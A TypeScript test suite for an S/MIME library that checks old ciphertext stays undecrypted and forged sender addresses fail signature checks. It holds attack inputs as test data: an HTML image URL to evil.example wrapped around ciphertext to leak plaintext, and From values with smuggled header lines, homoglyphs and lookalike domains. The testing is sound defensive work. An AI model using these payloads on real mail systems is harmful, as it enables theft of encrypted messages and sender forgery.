import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { readBody } from "../../src/core/mime/body.ts";
import { encryptMessage } from "../../src/core/smime/encrypt.ts";
import { openMessage } from "../../src/core/smime/open.ts";
import { signMessage } from "../../src/core/smime/sign.ts";
import { alice, bob, contextOf, now, signerOf } from "../support/identities.ts";
import { octets, plainMessage, text } from "../support/messages.ts";
import { signed as signedPayload } from "../support/payloads.ts";

/** The threat model's rows about content, each as messages that must stay harmless. */

const signed = text(await signMessage(plainMessage(), signerOf(alice), { signingTime: now }));
const encrypted = text(
  await encryptMessage(plainMessage({ body: "THE-SECRET\r\n" }), [
    { certificate: bob.encryption, capabilities: null },
  ]),
);
const SECRET = /THE-SECRET/;

/** The entity inside the message: its own structure fields and body. */
function entityOf(message: string): string {
  return message.slice(message.search(/^Content-/m));
}

const FROM_MALLORY = [
  "From: Mallory <mallory@evil.example>",
  "To: bob@smime.example",
  "MIME-Version: 1.0",
].join("\r\n");

/** Bob's reading, where no private key may be asked for. */
const untouched = {
  ...contextOf(bob),
  privateKey: () => Promise.reject(new Error("a private key was asked for")),
};

describe("old ciphertext inside a new message", () => {
  const bait = "Content-Type: text/plain\r\n\r\nCould you answer this quickly?";
  const page = (html: string) => `Content-Type: text/html\r\n\r\n${html}`;
  const multipart = (subtype: string, ...parts: readonly string[]) =>
    `${FROM_MALLORY}\r\nContent-Type: multipart/${subtype}; boundary=m\r\n\r\n${parts
      .map((part) => `--m\r\n${part}\r\n`)
      .join("")}--m--\r\n`;
  const ciphertext = entityOf(encrypted);

  const messages: Readonly<Record<string, string>> = {
    "below other text": multipart("mixed", bait, ciphertext),
    "above other text": multipart("mixed", ciphertext, bait),
    "between two halves of an image's address": multipart(
      "mixed",
      page("<img src='https://evil.example/"),
      ciphertext,
      page("'>"),
    ),
    "as the form nobody looks at": multipart("alternative", bait, ciphertext),
    "as what belongs to a page": multipart(
      "related",
      page('<object data="cid:x"></object>'),
      `Content-ID: <x>\r\n${ciphertext}`,
    ),
    "as the only part": multipart("mixed", ciphertext),
    "in an attached message": `${FROM_MALLORY}\r\nContent-Type: message/rfc822\r\n\r\n${encrypted}`,
    "in an attached message of several": multipart(
      "digest",
      `Content-Type: message/rfc822\r\n\r\n${encrypted}`,
    ),
  };
  for (const [name, message] of Object.entries(messages)) {
    it(`stays ciphertext: ${name}`, async () => {
      const opened = await openMessage(octets(message), untouched);
      assert.equal(opened.encryption.verdict, "none");
      assert.equal(opened.protection, "none");
      const { html, text: words } = readBody(opened.content ?? octets(""));
      assert.doesNotMatch(`${html ?? ""}${words ?? ""}`, SECRET);
    });
  }

  it("stays ciphertext in what Mallory encrypts to its owner", async () => {
    const outer = octets(messages["below other text"] ?? "");
    const wrapped = await encryptMessage(outer, [
      { certificate: bob.encryption, capabilities: null },
    ]);
    const opened = await openMessage(wrapped, contextOf(bob));
    assert.equal(opened.encryption.verdict, "decrypted");
    const { text: words, attachments } = readBody(opened.content ?? octets(""));
    assert.match(words ?? "", /answer this quickly/);
    assert.doesNotMatch(words ?? "", SECRET);
    assert.ok(attachments.every(({ content }) => !SECRET.test(text(content))));
  });
});

/** Signed by Alice, with another address outside: with protected header fields and without any. */
async function withFrom(address: string): Promise<Uint8Array[]> {
  return [
    octets(signed.replace("<alice@smime.example>", () => `<${address}>`)),
    await signedPayload(`From: Alice <${address}>`, "Content-Type: text/plain\r\n\r\nLunch?"),
  ];
}

describe("a genuine signature of Alice's", () => {
  const isNot = async (message: Uint8Array, wanted: "none" | "mismatch" | "invalid") => {
    const opened = await openMessage(message, contextOf(bob));
    assert.equal(opened.protection, "none");
    assert.equal(opened.signature.verdict, wanted);
    return opened;
  };

  it("says nothing about a message that her signed one is attached to", async () => {
    await isNot(
      octets(`From: alice@smime.example\r\nContent-Type: message/rfc822\r\n\r\n${signed}`),
      "none",
    );
    const forwarded = octets(
      [
        "From: alice@smime.example",
        "Content-Type: multipart/mixed; boundary=m",
        "",
        "--m\r\n\r\nPay Mallory.\r\n--m",
        `Content-Type: message/rfc822\r\n\r\n${signed}\r\n--m--\r\n`,
      ].join("\r\n"),
    );
    assert.equal((await isNot(forwarded, "none")).signature.signer, null);
  });

  it("is the author's of what she signed, not of what somebody signs around it", async () => {
    const around = await signMessage(
      octets(`${FROM_MALLORY}\r\nSubject: x\r\nContent-Type: message/rfc822\r\n\r\n${signed}`),
      signerOf(bob),
      { signingTime: now },
    );
    const opened = await isNot(around, "mismatch");
    assert.equal(opened.signature.signer?.fingerprint, bob.signing.fingerprint);
  });

  for (const [name, from] of [
    [
      "with another sender whose Sender field names her",
      "m@evil.example>\r\nSender: <alice@smime.example",
    ],
    [
      "with another sender to whom she is the one to reply to",
      "m@evil.example>\r\nReply-To: <alice@smime.example",
    ],
    ["with a letter of another alphabet in the local part", "\xd0\xb0lice@smime.example"],
    ["with a letter of another alphabet in the domain", "alice@\xd1\x95mime.example"],
    ["with an invisible character", "alice\xe2\x80\x8b@smime.example"],
    ["with a capital in the local part", "Alice@smime.example"],
    ["with her address as a local part", '"alice@smime.example"@evil.example'],
    ["with her domain above another", "alice@smime.example.evil.example"],
    ["with a route", "@smime.example:m@evil.example"],
  ] as const) {
    it(`does not count ${name}`, async () => {
      for (const message of await withFrom(from)) await isNot(message, "mismatch");
    });
  }

  it("counts with her domain written otherwise", async () => {
    for (const message of await withFrom("alice@SMIME.Example")) {
      assert.equal((await openMessage(message, contextOf(bob))).signature.verdict, "valid");
    }
  });

  it("does not count beside other content that travels in the signature itself", async () => {
    const opaque = text(
      await signMessage(plainMessage({ body: "I owe nothing.\r\n" }), signerOf(alice), {
        signingTime: now,
        opaque: true,
      }),
    );
    const cms = opaque.slice(opaque.indexOf("\r\n\r\n") + 4).trimEnd();
    const start = signed.indexOf("\r\n\r\n", signed.indexOf('filename="smime.p7s"')) + 4;
    const both = signed.slice(0, start) + cms + signed.slice(signed.lastIndexOf("\r\n\r\n--"));
    await isNot(octets(both), "invalid");
  });

  it("does not count without its content, or with an empty one", async () => {
    const start = signed.indexOf("\r\n\r\n", signed.indexOf('filename="smime.p7s"')) + 4;
    const cms = signed.slice(start, signed.lastIndexOf("\r\n\r\n--"));
    const detachedOnly = `From: alice@smime.example\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${cms}\r\n`;
    await isNot(octets(detachedOnly), "invalid");
    const boundary = /boundary="([^"]+)"/.exec(signed)?.[1] ?? "";
    const first = signed.indexOf(`--${boundary}\r\n`) + boundary.length + 4;
    const second = signed.indexOf(`\r\n--${boundary}\r\n`, first);
    await isNot(octets(signed.slice(0, first) + signed.slice(second)), "invalid");
  });
});
